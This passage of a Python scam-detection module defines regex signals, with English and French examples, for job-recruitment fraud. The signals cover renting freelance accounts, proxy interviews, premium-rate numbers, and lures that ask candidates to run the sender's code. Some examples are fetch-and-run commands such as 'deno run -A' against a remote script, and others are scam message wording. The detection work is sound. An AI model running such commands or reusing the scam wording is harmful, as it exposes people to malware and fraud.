            r"|with (?:ur|your) name|under (?:ur|your) name|in ur name)\b",
            r"\b(?:interviews?[- ]as[- ]a[- ]service|proxy interviews?|interview proxy|stand-in"
            r" interviews?)\b",
            # the sender working from the candidate's freelance account, and interviews sat in
            # other people's place (set M, rules R35-A, R35-F: people, not "tests in place of
            # the oral exam")
            r"\b(?:we|we'd|we'll|our (?:team|devs?|developers?|engineers?)) (?:would |will |could"
            r" |can |just )?(?:log ?into|log in to|sign in to|work from|bid from|apply from)"
            r" (?:your|ur) (?:upwork|fiverr|freelancer|toptal|malt|freelance) (?:accounts?"
            r"|profiles?)\b",
            r"\b(?:attend|take|do|sit|pass) (?:the |their |these )?(?:technical )?(?:interviews?"
            r"|tests?|exams?) (?:in place of|instead of|on behalf of) (?:our|the|my|some)"
            r" (?:candidates|clients|people|developers|applicants)\b",
            r"\b(?:passer|passes|passez|passe|passerais|passeriez) (?:les |des |leurs |l')?"
            r"(?:entretiens?|entrevues?|tests?|examens?)(?: [a-z]+){0,2} a la place (?:de|des"
            r"|d'un|d'une|du) (?:nos |des |vos |leurs |mes |ces )?(?:candidats?|candidates?"
            r"|clients?|developpeurs?|personnes|gens|autres)\b",
            r"\b(?:attend|take|do|handle|pass|join) (?:these |the |my |some |all )?(?:technical )?"
            r"(?:job )?interviews? (?:for me|on my behalf|instead of me|in my name|under my name"
            r"|as me)\b|\binterview\w{0,3} (?:instead of|in place of|on behalf of) me\b",
            r"\b(?:using|with|under|in) (?:my|your) (?:name|identity)(?: and| &) (?:resume|cv"
            r"|photo|selfie|id)\b",
            r"\b(?:create|creating|open|opening|set up|setting up|make|making|register"
            r"|registering) (?:an? |new |the )?(?:upwork|fiverr|freelancer|toptal|linkedin|github"
            r"|payoneer|paypal|freelance|developer|bank) account (?:with|using|under|in|on)"
            r" (?:your|ur) (?:identity|name|id|details|information|documents)\b",
            r"\bcollaborat\w{0,4} (?:with me )?(?:on|through|via|using) (?:an?|my|your|the|our|one)"
            r" (?:[a-z\-]+ )?(?:account|accounts)\b",
            r"\b(?:install|installing|via|using|through) (?:teamviewer|anydesk)\b|\bvia remote"
            r" control\b|\b(?:your|ur) (?:computer|pc|laptop|machine)\b[^.!?]{0,60}\b(?:teamviewer"
            r"|anydesk|remote control|remote tools?)\b",
            r"\b(?:split|share) (?:the |your |my )?(?:salary|income|earnings)\b",
            # "if you're not using your freelancing platform accounts ..., how about sharing
            # with me?"
            near(r"\b(?:your|ur) (?:freelanc\w{0,3}|upwork|fiverr|toptal|malt) (?:platform )?"
                 r"accounts?\b", r"\b(?:shar(?:e|ing)|lend(?:ing)?|rent(?:ing)?)(?: (?:it|them"
                 r"|those|these))? with (?:me|us)\b", r"[^.!?;]{0,100}"),
            r"\b(?:host|keep|set up|receive) (?:a |our |the |some )?(?:company )?(?:laptops?"
            r"|computers?|devices?) (?:at|in) your (?:home|house|place|apartment)\b",
            # French
            r"\b(?:louer|preter|partager|utiliser|louez|pretez|louant|pretant|nous pretant|nous"
            r" louant) (?:votre|ton|leur|son|vos|leurs)"
            r" (?:comptes?|profils?) (?:upwork|fiverr|malt|linkedin|freelance|github|indeed)\b",
            # « utiliser votre compte et votre identité », « candidater à votre place »,
            # « les entretiens sous ton nom », « les missions depuis votre compte »
            r"\b(?:utiliser|emprunter|louer|preter) (?:votre|ton) (?:compte|profil) et"
            r" (?:votre |ton )?(?:identite|nom)\b|\b(?:candidater|postuler) a (?:votre|ta)"
            r" place\b",
            r"\bentretiens? (?:sous|avec) (?:votre|ton) nom\b|\b(?:missions|contrats|offres"
            r"|projets) depuis (?:votre|ton) (?:compte|profil)\b",
            # an account rented, lent or bought outright, or wanted or used when old or verified,
            # as in English ("use your verified Malt account"); not a verified account only
            # mentioned (« tu as un compte Malt vérifié »; rules R19-D, R19-H)
            r"\b(?:louer|louez|loue|preter|pretez|prete|pretes|r?acheter|r?achetez|r?achetons"
            r"|r?achete)(?:-nous"
            r"|-moi)? (?:des |vos |tes |votre |ton |un |de |le |les )?(?:anciens |vieux |vrais )?"
            r"comptes? (?:upwork|linkedin|fiverr|malt|freelance|github|indeed)\b"
            r"|\b(?:partager|utiliser|emprunter|recherche|recherchons|cherche|cherchons)"
            r" (?:des |vos |tes |votre |ton |un |de |le |les )?(?:anciens |vieux |vrais )?comptes?"
            r" (?:upwork|linkedin|fiverr|malt|freelance|github|indeed) (?:anciens?|ages|verifies?"
            r"|de plus de [0-9a-z]{1,5} ans)\b"
            # money per account of a named platform (« 200 € par compte LinkedIn »; R19-J)
            r"|\b[0-9]{2,5} ?(?:€|eur|euros?|\$|usd|dollars?) (?:par|le|pour chaque) compte"
            r" (?:upwork|linkedin|fiverr|malt|freelance|github|indeed)\b",
            near(r"\bcomptes?\b", r"\b(?:l'|les )(?:exploiter|utiliser|emprunter)\b|\b(?:le|les)"
                 r" (?:louer|preter)\b", r"[^.!?;]{0,30}")
            + r"|\bexploiter (?:votre|ton|leur|vos|leurs) comptes?\b",
            r"\b(?:le|un|notre) visage (?:de l'equipe |du projet )?(?:lors des|pour les|pendant les"
            r"|aux|devant les) (?:appels|reunions|entretiens|visios?|clients)\b|\bprete-nom\b",
            r"\blocation de (?:votre |ton )?(?:compte|comptes|profil)\b",
            r"\b(?:partager|partageons|partage) (?:le |les )?(?:salaire|revenus|gains)\b",
            r"\b(?:via|avec|par) (?:teamviewer|anydesk)\b|\b(?:prise de controle|controle) a"
            r" distance de (?:votre|ton) (?:ordinateur|pc)\b",
            r"\bcreer un compte (?:upwork|fiverr|malt|freelance|bancaire) (?:avec|a|sous) (?:votre"
            r"|ton) (?:identite|nom)\b",
            r"\b(?:passer|faire|passe|passerons) (?:les |l'|vos )?entretiens? (?:a votre place|a ta"
            r" place|en votre nom|en ton nom|pour vous)\b",
            # the kind of interview between (« je passe les entretiens techniques à ta place »),
            # and the pay shared back (« tu me reverses une partie du salaire »; R29-G, set E)
            r"\b(?:passer|passe|passes|passez|passerai|passerons|passerait|faire|fais|fait)"
            r" (?:les |l'|vos |tes |tous les |ces )?entretiens?(?: [a-z'-]+){1,2} (?:a votre place"
            r"|a ta place|en votre nom|en ton nom)\b",
            r"\b(?:me|nous) (?:reverses|reversez|reverseras|reverserez|reverser|verses|versez"
            r"|donnes|donnez|redonnes|redonnez) (?:une partie|un pourcentage|la moitie|[0-9]{1,2}"
            r" ?%) (?:de|du) (?:ton |votre )?(?:salaire|paie|remuneration)\b"
            r"|\b(?:pay|give|send|transfer|kick back|hand over)(?: me| us) (?:a part|part|a share"
            r"|a cut|a percentage|a portion|half|[0-9]{1,2} ?%) of (?:your|ur|the) (?:monthly )?"
            r"(?:salary|pay|paycheck|wages)\b",
            # proxy job-seeking (F12, TechSparx "use your account to apply for US-only jobs";
            # Kravcenko "interviews-as-a-service"): the candidate applies and fronts the
            # interviews, the sender does the work and they share the pay
            r"\b(?:apply|applying|applies) (?:for|to) (?:the |these |those |some |multiple |many "
            r"|more |remote |us-only |us |local )?(?:[a-z\-]+ )?(?:jobs?|positions?|roles?|offers?"
            r"|contracts?|projects?|gigs?) (?:for me|on my behalf|on our behalf|in my name|in your"
            r" name|under your name|under my name|as me|(?:with|using) your (?:name|identity))\b",
            r"\b(?:use|using|with|through) (?:your|ur) (?:account|profile|name|identity"
            r"|location|address|details) (?:to|for) (?:apply|applying|bid|bidding|get|land|win)"
            r" (?:for |to |on )?(?:[a-z\-]+ ){0,2}(?:jobs?|positions?|roles?|contracts?|projects?"
            r"|gigs?|clients?|interviews?)\b",
            r"\b(?:your|ur) (?:role|job|part|task|only task|responsibility) (?:would|will|is)"
            r" (?:simply |only |just |mainly )?(?:be )?to (?:apply|handle|attend|take|pass|do|join"
            r"|front|communicate) (?:for |to )?(?:(?:the |job |some |initial |first |non-technical "
            r"|hr )?(?:jobs?|interviews?|interview process|calls?|meetings?|communication"
            r"|applications?))\b",
            r"\b(?:once|when|after|if) we (?:land|get|secure|win|pass|obtain) (?:the|a|an) (?:jobs?"
            r"|position|role|offer|contract)\b",
            near(_PROXY_SEEKER, _PROXY_COLLAB, r"[^.!?]{0,40}"),
            r"\b(?:postuler|postulez|candidater) (?:a|aux|pour|sur) (?:des |les |ces |plusieurs )?"
            r"(?:offres|emplois|postes|missions|projets)(?: [a-z\-]+)? (?:a ma place|pour moi"
            r"|en (?:votre|ton) nom|sous (?:votre|ton) nom|avec (?:votre|ton) (?:nom|identite"
            r"|profil|compte))\b",
            r"\b(?:votre|ton) (?:role|travail|mission|tache) (?:serait|sera|est) (?:simplement "
            r"|juste |seulement |uniquement )?de (?:postuler|passer les entretiens|gerer les"
            r" entretiens)\b",
            r"\b(?:une fois|quand|des|apres) (?:que |qu')?(?:nous aurons|on aura|nous avons|on a)"
            r" (?:obtenu|decroche|gagne) (?:le|un) (?:poste|emploi|contrat|job)\b",
        )
    },
    examples=(
        E("On paie 200 € par compte LinkedIn de plus de 5 ans.", lang="fr",
          spans=("200 € par compte LinkedIn",)),
        E("Je rachète des comptes Upwork vérifiés, 200 € par compte.",
          lang="fr",
          spans=("rachète des comptes Upwork",)),
        E("On achète vos anciens comptes Upwork vérifiés, 200 € pièce.",
          lang="fr",
          spans=("achète vos anciens comptes Upwork",)),
        E("We'd like to rent your Upwork account for $300/month, we do all the work.",
          spans=("rent your Upwork account",)),
        E("Our engineer will attend the interviews on your behalf.",
          spans=("attend the interviews on your behalf",)),
        E("Je vous propose de louer votre compte Malt contre une commission.", lang="fr",
          spans=("louer votre compte Malt",)),
        E("easy side income by lending ur freelancer account to our team",
          spans=("lending ur freelancer account",)),
        E("We would use your account and identity for the applications; our devs do the work.",
          spans=("use your account and identity",)),
        E("Someone from our team will join the calls with ur name, you just collect the pay.",
          spans=("join the calls with ur name",)),
        E("Vous gagnez 300 € par mois en nous prêtant votre compte Upwork.", lang="fr",
          spans=("nous prêtant votre compte Upwork",)),
        E("Nous aimerions utiliser votre profil et votre identité pour candidater à votre place.",
          lang="fr", spans=("utiliser votre profil et votre identité", "candidater à votre place")),
        E("Un collègue passera les entretiens sous ton nom et fera les missions depuis ton compte.",
          lang="fr", spans=("entretiens sous ton nom", "missions depuis ton compte")),
        E("Nous cherchons des profils pour prêter leur compte Malt, payé chaque mois.",
          lang="fr", spans=("prêter leur compte Malt",)),
        E("We bid on contracts under your Upwork profile; you keep 15% of whatever the account "
          "brings in.", spans=("bid on contracts under your Upwork profile",
                               "15% of whatever the account brings in")),
        E("Do you have a GitHub account older than 3 years? We need a face for client calls.",
          spans=("account older than 3 years", "a face for client calls")),
        E("On cherche des comptes Upwork vérifiés pour les exploiter ; vous serez le visage "
          "lors des appels.", lang="fr",
          spans=("cherche des comptes Upwork vérifiés", "le visage lors des appels")),
        E("Je vois que tu as un compte Malt vérifié, j'aimerais l'utiliser.", lang="fr",
          spans=("compte Malt vérifié, j'aimerais l'utiliser",)),
        E("If you're not using your freelancing platform accounts at the moment, how about "
          "sharing with me?", spans=("your freelancing platform accounts at the moment, how "
                                     "about sharing with me",)),
        E("C'est moi qui passe les entretiens techniques à ta place, et tu me reverses une "
          "partie du salaire.", lang="fr",
          spans=("passe les entretiens techniques à ta place",
                 "me reverses une partie du salaire"), note="(R29-G)"),
        E("I'll do the technical interviews in your name; you pay me half of your salary.",
          spans=("do the technical interviews in your name", "pay me half of your salary"),
          note="(R29-G)"),
        E("Prête-nous ton compte Malt et tu touches 20 % de ce qu'on facture.", lang="fr",
          spans=('Prête-nous ton compte Malt',), note="(R35-A, R35-F)"),
        E('We would log into your freelancer account and bid from it.',
          spans=('We would log into your freelancer account',), note="(R35-A, R35-F)"),
        E('Tu passes les entretiens techniques à la place de nos candidats.', lang="fr",
          spans=('passes les entretiens techniques à la place de nos candidats',),
          note="(R35-A, R35-F)"),
        E("You'd attend the interviews instead of our candidates.",
          spans=('attend the interviews instead of our candidates',), note="(R35-A, R35-F)"),
    ),
    counterexamples=(
        E('Log into your Upwork account to accept the contract we sent.',
          note="review46 (R35-F)"),
        E("On your first day you'll get access to a GitHub account, Slack and Jira.",
          note="review46 (R35-F)"),
        E("Cette année, vous passez les tests à la place de l'oral.", lang="fr",
          note="review46 (R35-F)"),
        E("To publish the app on the store, we will log in to your developer account and "
          "submit the build.",
          note="review46 (R35-F)"),
        E("Nous facturons 15 € par compte utilisateur.",
          lang="fr",
          note="a price per seat (R19-I)"),
        E("Please apply as you see fit; we review every application within a week."),
        E("We will submit your CV to the client on your behalf once you agree.",
          note="an agency putting a candidate forward"),
        E("Please share your GitHub profile with us before the call.",
          note="a recruiter asking for a public profile, not an account"),
        E("Je vois que tu as un compte Malt vérifié.", lang="fr",
          note="a verified account mentioned, not wanted (R19-D)"),
        E("Postulez avec votre compte LinkedIn en un clic depuis notre page carrières.",
          lang="fr"),
        E("Please sign in with your GitHub account to access the take-home instructions."),
        E("Connectez-vous avec votre compte LinkedIn pour postuler.", lang="fr"),
        E("We look for profiles over 5 years of experience in Go."),
        E("You'll manage client projects through your account team in Paris."),
        E("Vous exploiterez les profils clients pour la segmentation marketing.", lang="fr"),
        E("Vous passerez les entretiens techniques avec notre CTO, puis un échange RH.",
          lang="fr", note="the candidate's own interviews (R29-G)"),
        E("We pay half of your salary into the pension plan; the company matches the rest.",
          note="an employer's contribution, not a cut to the sender (R29-G)"),
    ),
)

PREMIUM_RATE_NUMBER = PatternSignal(
    name="premium_rate_number",
    description="Gives a premium-rate or pay-per-call number for an interview (UK 09/087/070, "
    "French 081/082/089, US 1-900).",
    category="contact",
    polarity="risk",
    source="F13: Get Safe Online leaflet; SAFERjobs via WorkSmart; Pôle emploi via Europe 1 "
    "(numéros surtaxés)",
    patterns={
        "message": (
            r"(?:\+44 ?\(?0?\)? ?|\b0)(?:9[0-9]{2}|87[0-3]"
            r"|70[0-9])[ .\-]?[0-9]{3}[ .\-]?[0-9]{3,4}\b",
            r"(?:\+33 ?\(?0?\)? ?|\b0 ?)8 ?[129][0-9](?:[ .\-]?[0-9]{2}){3}\b",
            r"\b1[ .\-]?(?:900|976)[ .\-]?[0-9]{3}[ .\-]?[0-9]{4}\b",
            # UK 09 numbers in any grouping of their eleven digits; Belgian 090x and Swiss
            # 0900/0901/0906 premium lines (French-speaking candidates)
            r"(?:\+44 ?\(?0?\)? ?|\b0)9[0-9]{2}(?:[ .\-]?[0-9]){7}\b",
            r"(?:\+32 ?|\b0)90[0-9][ .\-/][0-9]{2}[ .\-]?[0-9]{3}\b",
            r"(?:\+41 ?|\b0)90[016][ .\-][0-9]{3}[ .\-][0-9]{3}\b",
            r"\b(?:premium[- ]rate|pay[- ]per[- ]call)\b|\bnumeros? surtaxes?\b",
        )
    },
    examples=(
        E("Call 0909 879 0123 for your telephone interview.", spans=("0909 879 0123",)),
        E("Pour l'entretien téléphonique, appelez le 08 99 12 34 56.", lang="fr",
          spans=("08 99 12 34 56",)),
        E("For the screening call ring 09045 678 901 between 9 and 5.",
          spans=("09045 678 901",)),
        E("Votre entretien : composez le 0903 45 678 (Belgique) ou le 0900 123 456 (Suisse).",
          lang="fr", spans=("0903 45 678", "0900 123 456")),
    ),
    counterexamples=(
        E("Call me on 020 7946 0321 to book the interview.", note="London landline"),
        E("Appelez notre numéro vert 0 800 12 34 56.", lang="fr", note="free number"),
        E("Mon numéro : 09 72 12 34 56, n'hésitez pas à m'appeler.", lang="fr",
          note="a French 09 landline (internet box), not premium"),
        E("Call me on 07911 123456 any time.", note="a UK mobile"),
    ),
)

# --------------------------------------------------------------------------------------------
# developer lures
# --------------------------------------------------------------------------------------------
_THEIR_CODE = (r"(?:it|the (?:project|app|application|repo|code|codebase|mvp|backend|frontend|dapp"
               r"|demo|prototype)|our (?:project|app|application|repo|code|codebase|mvp|backend"
               r"|frontend|dapp|demo|prototype))")
_LAUNCH_FR = r"(?:installer|lancer|executer|demarrer|faire tourner|deployer)"
_PLACE_FR = (r"(?:en local|localement|chez (?:vous|toi)|sur (?:votre|ta|ton) (?:machine|ordinateur"
             r"|poste|pc|portable)|(?:avant|pendant|durant) (?:l'|le |la |notre |votre |ton |ta )?"
             r"(?:entretien|appel|reunion|rendez-vous|call|echange|visio|visioconference))")
#: More phrasings of L1/L2 (run, or debug and extend, the sender's code) than the detectors'
#: shared list: a pronoun for the project ("download it and run it"), "get it running", the
#: task framed as extending "our existing" app.
_RUN_CODE_MORE = (
    r"\b(?:you|u|please|pls) (?:to )?(?:get|have) " + _THEIR_CODE + r" (?:up and )?running\b"
    r"|\bget " + _THEIR_CODE + r" (?:up and )?running (?:locally|on (?:your|ur) (?:machine"
    r"|computer|laptop|pc|side|end)|before)\b",
    r"\b(?:patch|fix|troubleshoot) (?:whatever|anything that|what's|whats)(?: is| was)?"
    r" (?:breaking|broken|failing|wrong|not working)\b",
    r"\b(?:pull|clone|download|grab|fetch|install|unzip|extract) (?:it|the (?:repo|project"
    r"|code))(?: down)?,? (?:and |then )?(?:(?:start|spin|fire|boot|set) (?:it )?up|(?:run"
    r"|launch|execute|open|start) it)\b",
    r"\b(?:troubleshoot|debug|fix|repair|run|install|launch|start|deploy|build) " + _THEIR_CODE
    + r" (?:up )?(?:on (?:your|ur) (?:own )?(?:machine|computer|laptop|pc|local machine|device)"
    r"|before we (?:speak|talk|meet|chat|call|connect))\b",
    near(r"\b(?:test|task|assignment|assessment|exercise|challenge|interview)\b",
         r"\b(?:extend|modify|enhance|refactor|build on|add (?:a |an |the )?(?:[a-z\-]+ ){0,2}"
         r"(?:feature|module|endpoint|page|component)s? to) (?:our|the|this|my) existing"
         r" (?:[a-z\-]+ ){0,3}(?:project|app|application|platform|dashboard|codebase|repo"
         r"|backend|frontend|dapp|system|website|bot|api)\b", r"[^.!?]{0,80}"),
    # French
    r"\b" + _LAUNCH_FR + r"(?: et " + _LAUNCH_FR + r")? (?:en local|localement|sur (?:votre|ta"
    r"|ton) (?:machine|ordinateur|poste|pc)) (?:notre|le|la|l'|votre|ton) ?(?:projet|application"
    r"|appli|code|depot|repo|mvp|demo|backend|prototype)\b",
    r"\bl'(?:installer|executer|lancer|deployer)(?: [\w'-]+){0,5} " + _PLACE_FR + r"\b",
    r"\b(?:installe|lance|execute|demarre|clone|deploie|recupere|telecharge)z?-(?:le|la|les),?"
    r" (?:puis |et )?(?:installe|lance|execute|demarre|deploie)z?-(?:le|la|les)\b"
    r"|\bfai(?:s|tes)-(?:le|la|les) tourner\b",
    near(r"\b(?:test|exercice|epreuve|cas pratique|entretien)\b",
         r"\b(?:ajoute[rz]?|etend(?:re|ez)|modifie[rz]?|complete[rz]?|ameliore[rz]?)"
         r"(?: [\w'-]+){0,5} (?:a|dans|sur)"
         r" (?:notre|votre|la|le) (?:[\w-]+ )?(?:plateforme|application|projet|code|backend"
         r"|tableau de bord|site|api)(?: [\w-]+)? existante?\b", r"[^.!?]{0,80}"),
    r"\b(?:clone[zr]?|recupere[zr]?|telecharge[zr]?) (?:le|ce|notre|mon) (?:depot|repo|projet"
    r"|code source|code de (?:depart|l'exercice|base|test)|code(?: ?[.;!]|$))",
    # the test is to diagnose the sender's current code (rule R29-G, set E): "as part of the
    # interview, dig into our current codebase and work out why ...", « dans le cadre du
    # processus, reprendre notre projet actuel », « le test : régler le bug sur notre code
    # existant »; a job description's "you'll dive into our existing codebase" names no test
    near(r"\b(?:test|task|assignment|assessment|exercise|challenge|interview)\b",
         r"\b(?:dig into|dive into|look into|jump into|investigate|diagnose|troubleshoot|debug"
         r"|fix|repair|work out what'?s wrong with) (?:our|the|this|my) (?:current|existing|live"
         r"|broken) (?:[a-z\-]+ ){0,2}(?:codebase|code base|code|project|app|application|repo"
         r"|repository|backend|frontend|dapp|platform|system|api|service)\b", r"[^.!?]{0,80}"),
    near(r"\b(?:test|exercice|epreuve|cas pratique|entretien|processus|candidats?)\b",
         r"\b(?:reprendre|reprenez|reprends|analyser|analysez|diagnostiquer|diagnostiquez"
         r"|deboguer|deboguez|debugger|debuggez|corriger|corrigez|regler|reglez|examiner"
         r"|examinez|plonger dans|jeter un (?:oeil|coup d'oeil) (?:a|sur)|(?:le|les) bugs? (?:sur"
         r"|dans|de)) (?:notre|le|ce) (?:projet|code|depot|repo|application|appli|api|backend"
         r"|frontend|module|site)(?: [\w-]+)? (?:actuel|existant|en cours|en production)e?\b",
         r"[^.!?]{0,80}"),
)

RUN_OUR_CODE = PatternSignal(
    name="run_our_code",
    description="Asks the candidate to install and run, or review, debug or extend, the "
    "sender's existing code: clone the repo, npm install, fix a bug in our project.",
    category="lure",
    polarity="risk",
    source="L1/L2: Unit 42 Feb 2026; FBI IC3 PSA Sept 2024 ('debugging exercise'); GitHub Jul "
    "2023; Socket; Phylum; dev-trap-dossiers; alien45; Emilian Bold; Dan Heskett; xndbogdan; "
    "roman.pt; Microsoft Feb 2026",
    patterns={"message": d.RUN_CODE_PATTERNS + _RUN_CODE_MORE},
    # a public tool run on the candidate's own code ("run your tests with npx jest"; R28-F)
    unless_template=d.KNOWN_RUNNER_TOOLS,
    examples=(
        E("Corrige le bug dans notre backend avant l'appel.",
          lang="fr", spans=("Corrige le bug dans notre backend",)),
        E("Could you fix this bug in our repo before Friday?",
          spans=("fix this bug in our repo",), note="probe11, R20-E"),
        E("Please clone the repo, run npm install and npm start before our call.",
          spans=("clone the repo", "npm install", "npm start")),
        E("Take a look at our codebase and fix the bugs in our project, it has deprecated "
          "modules.", spans=("Take a look at our codebase", "fix the bugs in our project",
                             "deprecated modules")),
        E("Clonez le dépôt et installez les dépendances avant l'entretien.", lang="fr",
          spans=("Clonez le dépôt", "installez les dépendances")),
        E("Merci de lancer le projet en local avant notre appel.", lang="fr",
          spans=("lancer le projet en local",)),
        E("Lancez le projet, puis merci d'exécuter le projet que je vous ai envoyé en local.",
          lang="fr", spans=("Lancez le projet", "exécuter le projet que je vous ai envoyé en "
                            "local")),
        E("As a first step, deploy our MVP locally and tell me if the login works.",
          spans=("deploy our MVP locally",)),
        E("Merci de récupérer le projet et de le lancer sur votre poste avant l'entretien.",
          lang="fr", spans=("le lancer sur votre poste avant l'entretien",)),
        E("Peux-tu faire tourner notre projet ce soir ?", lang="fr",
          spans=("faire tourner notre projet",)),
        E("Pull it down, spin it up and fix whatever is failing on the checkout page.",
          spans=("Pull it down, spin it up", "fix whatever is failing")),
        E("As the test, add a staking module to our existing dapp, then get it running on your "
          "laptop.", spans=("test, add a staking module to our existing dapp",
                            "get it running on your laptop")),
        E("Téléchargez-le, lancez-le, puis dites-nous ce que vous en pensez.", lang="fr",
          spans=("Téléchargez-le, lancez-le",)),
        E("Pour l'exercice, modifiez le module de paiement dans notre application existante et "
          "merci de l'exécuter sur votre poste.", lang="fr",
          spans=("exercice, modifiez le module de paiement dans notre application existante",
                 "l'exécuter sur votre poste")),
        # package runners that fetch and run a package (rule R28-F, red-team round 10 F9)
        E("Just run npx create-interview-app@latest and share your screen.",
          spans=("npx create-interview-app@latest",)),
        E("Run bunx acme-assess, or uvx acme-assess if you prefer Python.",
          spans=("bunx acme-assess", "uvx acme-assess")),
        E("Please run pipx run acme-assess and send me the output.",
          spans=("pipx run acme-assess",)),
        E("Install nothing, just go run github.com/acme-hr/assess@latest.",
          spans=("go run github.com/acme-hr/assess@latest",)),
        E("Then deno run -A https://acme-hr.dev/assess.ts in a terminal.",
          spans=("deno run -A https://acme-hr.dev/assess.ts",)),
        E("Lancez simplement npx --yes acme-assess@1.2.0 et partagez votre écran.", lang="fr",
          spans=("npx --yes acme-assess@1.2.0",)),
        E("Exécutez « deno run --allow-all jsr:@acme/assess » puis envoyez-nous le résultat.",
          lang="fr", spans=("deno run --allow-all jsr:@acme/assess",)),
        E("As part of the interview, dig into our current codebase and work out why the "
          "withdrawal flow breaks.", spans=("interview, dig into our current codebase",),
          note="the test is to diagnose the sender's code (R29-G)"),
        E("Le test : jeter un œil à notre code existant et régler le bug du module de paiement.",
          lang="fr", spans=("test : jeter un œil à notre code existant",), note="(R29-G)"),
        E("Dans le cadre du processus, nous proposons aux candidats de reprendre notre projet "
          "actuel et de diagnostiquer la panne.", lang="fr",
          spans=("processus, nous proposons aux candidats de reprendre notre projet actuel",),
          note="(R29-G)"),
    ),
    counterexamples=(
        E("After our call you'll get a 2-hour HackerRank exercise."),
        E("Write a small CLI in any language, in your own repository, and send us the link."),
        E("Après notre échange, un exercice de code à faire chez vous, à rendre sous une "
          "semaine.", lang="fr"),
        # a take-home brief: the candidate documents how to run the code they wrote
        E("Livrables : le code source dans un dépôt Git et un README avec les instructions "
          "pour lancer l'application et les tests.", lang="fr"),
        E("In this role you'll extend our existing platform with new payment features.",
          note="a job description, no test or run request"),
        E("Include a README so that we can build it and run it on our side."),
        E("Le poste consiste à faire évoluer notre application existante.", lang="fr"),
        E("Récupérez le code d'accès envoyé par SMS pour vous connecter.", lang="fr"),
        # a take-home README: the candidate writes the code and runs their own tests through a
        # package runner; "go run" and "Deno" as ordinary words (rule R28-F)
        E("Write your solution in src/, in your own repository, and run your tests with npx "
          "jest before you submit.", note="a public test tool on the candidate's code (R28-F)"),
        E("Scaffold your answer with npx create-react-app my-solution, then push it to GitHub."),
        E("Let's go run the numbers with finance before Friday."),
        E("Deno runs our platform team; Deno will be on the call too."),
        E("Our stack: Node, npx and pnpm, uvx instead of pip, and Go."),
        E("Écrivez votre solution dans votre propre dépôt et lancez vos tests avec npx vitest.",
          lang="fr", note="R28-F"),
        E("Deno, notre CTO, sera présent à l'entretien.", lang="fr"),
        E("In this role you'll dive into our existing codebase and own the payments service.",
          note="a job description, no test (R29-G)"),
        E("The interview is a pair-programming session on CoderPad: together we fix a small bug "
          "in a sample function shared on screen.", note="a known platform, not the sender's "
          "project (R29-G)"),
        E("Pour le test, vous écrirez un petit service en partant de zéro, dans votre dépôt.",
          lang="fr", note="new code written by the candidate (R29-G)"),
        E("Vous reprendrez notre application existante au sein de l'équipe produit.", lang="fr",
          note="a job description (R29-G)"),
    ),
)

ADHOC_CODE_HOSTING = CallableSignal(
    name="adhoc_code_hosting",
    description="Delivers the code to run through ad-hoc hosting (a Bitbucket, GitLab or "
    "personal GitHub repo, a file-sharing link, a private-repo invite), not the company's own.",
    category="lure",
    polarity="risk",
    source="L3 (only with L1/L2): alien45; Emilian Bold; dev-trap-dossiers; xndbogdan; Jamf via "
    "The Cyber Guy; GitLab bans; GitHub 2023 (repository invitations)",
    detector=d.adhoc_code_hosting,
    prefilter=(("message", d.CODE_HOST_PREFILTER, False),),
    reads=("message", "sender_company", "sender_company_url"),
    examples=(
        E("Clone https://bitbucket.org/defi-team7/dex-mvp and run npm install before our call.",
          spans=("https://bitbucket.org/defi-team7/dex-mvp",)),
        E("I'll invite you to our private repo, please fix the bugs in our project.",
          spans=("invite you to our private repo",)),
        E("Clonez le dépôt gitlab.com/proj-web3/app et lancez le projet.", lang="fr",
          spans=("gitlab.com/proj-web3/app",)),
        E("Our GitHub link is broken, so I've mirrored the project to bitbucket.org/devteam-a22/"
          "core for you.", spans=("bitbucket.org/devteam-a22/core",), note="(R29-G)"),
        E("We keep the test project off GitHub; I'll send a zip through a file-sharing link.",
          spans=("file-sharing link",), note="(R29-G)"),
        E("Le dépôt de test est sur gitlab.com/recrut-test-0423/app, acceptez l'invitation.",
          lang="fr", spans=("gitlab.com/recrut-test-0423/app",), note="(R29-G)"),
        E("Clone the test project on gitlab.com/devteam-a22/core and run npm install.",
          fields={"sender_company": "HelixQ"}, spans=("gitlab.com/devteam-a22/core",),
          note="another organisation's, read as the link (R39-E)"),
        E("Clone the test project on gitlab.com/helixq/app?ref=https://mega.nz/file/abc and "
          "run npm install.", fields={"sender_company": "HelixQ"},
          spans=("https://mega.nz/file/abc",),
          note="a file-sharing link glued after the company's own (R39-E, review58 S3)"),
        E("Clone the test project on gitlab.com/helixq/take-home/../../devs-x and run it.",
          fields={"sender_company": "HelixQ"},
          spans=("gitlab.com/helixq/take-home/../../devs-x",),
          note="a path that climbs out of the company's organisation (review58 S3)"),
        E("Clone the test project on gitlab.com/helixq/take-home/%2e%2e/%2e%2e/devs-x and run "
          "it.", fields={"sender_company": "HelixQ"},
          spans=("gitlab.com/helixq/take-home/%2e%2e/%2e%2e/devs-x",),
          note="dot segments encoded, as a browser resolves them (review59 P1)"),
        E("I'll add you as a collaborator on gitlab.com/helixq/take-home; clone and run the "
          "test project.", fields={"sender_company": "HelixQ"},
          spans=("add you as a collaborator on gitlab",),
          note="an invitation stays an invitation (review58 S2)"),
    ),
    counterexamples=(
        E("Our open-source code is at github.com/helixq/sdk; clone the repo if curious.",
          fields={"sender_company_url": "https://helixq.com"},
          note="the company's own organisation"),
        E("Here is my GitHub: github.com/jdoe, looking forward to our call."),
        E("Notre code est sur gitlab.com/atelierlumen ; clonez le dépôt si vous voulez.",
          lang="fr", fields={"sender_company": "Atelier Lumen"}),
        E("Write your solution in your own repo and send us the file-sharing link if it is "
          "large.", note="the candidate's own code, no test project of the sender (R29-G)"),
        E("Le projet du test est sur gitlab.com/atelierlumen/test-back.", lang="fr",
          fields={"sender_company": "Atelier Lumen"},
          note="the company's own organisation (R29-G)"),
        E("Clone the test project on gitlab.com/helixq/take-home and run npm install.",
          fields={"sender_company": "HelixQ"},
          note="'on gitlab' is the link, under the company's own organisation (R39-E)"),
        E("The test project is at bitbucket.org/helixq/exercise: clone it and run it locally.",
          fields={"sender_company": "HelixQ"}, note="R39-E"),
        E("Clone the test project on gitlab.com/helixq/app/... and run npm install.",
          fields={"sender_company": "HelixQ"},
          note="an ellipsis after the company's own link climbs nowhere (review59 P1)"),
    ),
)

#: French pieces of interview_software_download's install requests: updating, a generic
#: program, and what makes it the interview's (« logiciel d'entretien », « client vidéo »)
_UPDATE_FR = r"(?:mettez a jour|mettre a jour|mets a jour)"
_SOFTWARE_FR = r"(?:logiciel|application|appli|outil|client)s?"
